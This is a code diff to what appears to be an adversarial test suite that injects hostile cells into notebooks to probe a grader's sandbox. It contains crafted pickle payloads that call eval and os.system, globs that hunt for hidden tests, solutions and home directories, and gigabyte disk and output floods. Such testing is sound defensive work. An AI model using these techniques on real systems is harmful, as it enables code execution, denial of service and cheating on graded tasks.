@@ -63,7 +63,7 @@ def enormous_output(nb):
 def read_hidden_tests(nb):
     nb.cells.insert(3, nbf.v4.new_code_cell('''import glob, os
 found = []
-patterns = ["/work/**/tests/*.py", "/work/**/*autograder*.zip", "/work/**/solutions/*.ipynb", "/work/**/build/assign/**",
+patterns = ["/work/**", "/work/**/tests/*.py", "/work/**/*autograder*.zip", "/work/**/solutions/*.ipynb", "/work/**/build/assign/**",
             "/vagrant/solutions/*.ipynb", "/vagrant/build/**", "/vagrant/tests/**", "/tmp/**", "/root/**", "/home/**",
             "../solutions/*.ipynb", "../build/**", "../tests/**", "../.git/**"]
 for pat in patterns:
@@ -136,7 +136,8 @@ def _walk(module, name, arg):  # protocol 4: PROTO, module, name, STACK_GLOBAL, 
     return b"\x80\x04" + s(module) + s(name) + b"\x93" + s(arg) + b"\x85R."
 _vals = "/tmp/.mlab-values"
 def _mlab_dump():
-    index = {"values": {}, "funcs": {}, "refs": {}, "oversized": {}, "unsaved": {}}
+    index = {"values": {}, "funcs": {}, "refs": {"np": ["module", "numpy", ""], "pd": ["module", "pandas", ""]},
+             "oversized": {}, "unsaved": {}}
     crafted = {"peak": _walk("pandas.core.common", "builtins.eval", "__import__('os').system('touch /tmp/PWNED') or 40.0"),
                "walk2": _walk("numpy", "core.multiarray.os.system", "touch /tmp/PWNED2"),
                "walk3": _walk("plotly.graph_objs", "Figure.__init__.__globals__", "x"),
@@ -181,7 +182,7 @@ print("exit codes:", [k.wait() for k in kids])"""))
 
 
 def disk_flood(nb):
-    """4b. Write 5 GiB into the copy's folder and /tmp, and flood stdout/stderr at the OS level."""
+    """4b. Write 5 GiB into the copy's folder, /tmp and /dev/shm, and 6 GB to fds 1 and 2."""
     nb.cells.insert(3, nbf.v4.new_code_cell(r"""import os
 wrote = 0
 for d in (".", "/tmp", "/dev/shm"):
@@ -192,8 +193,12 @@ for d in (".", "/tmp", "/dev/shm"):
             wrote += (64 << 20) - 1
         except OSError:
             break
-print("wrote MiB:", wrote >> 20)
-chunk = b"E" * (1 << 20)
+print("wrote MiB:", wrote >> 20)"""))
+    nb.cells.insert(4, nbf.v4.new_code_cell(r"""for d in (".", "/tmp", "/dev/shm"):  # a full /tmp would leave no room to save its own values
+    for i in range(80):
+        if os.path.exists(os.path.join(d, f"fill{i}.bin")):
+            os.remove(os.path.join(d, f"fill{i}.bin"))"""))
+    nb.cells.insert(5, nbf.v4.new_code_cell(r"""chunk = b"E" * (1 << 20)
 for _ in range(3000):  # 3 GB on each of the OS-level stdout and stderr
     os.write(1, chunk)
     os.write(2, chunk)"""))
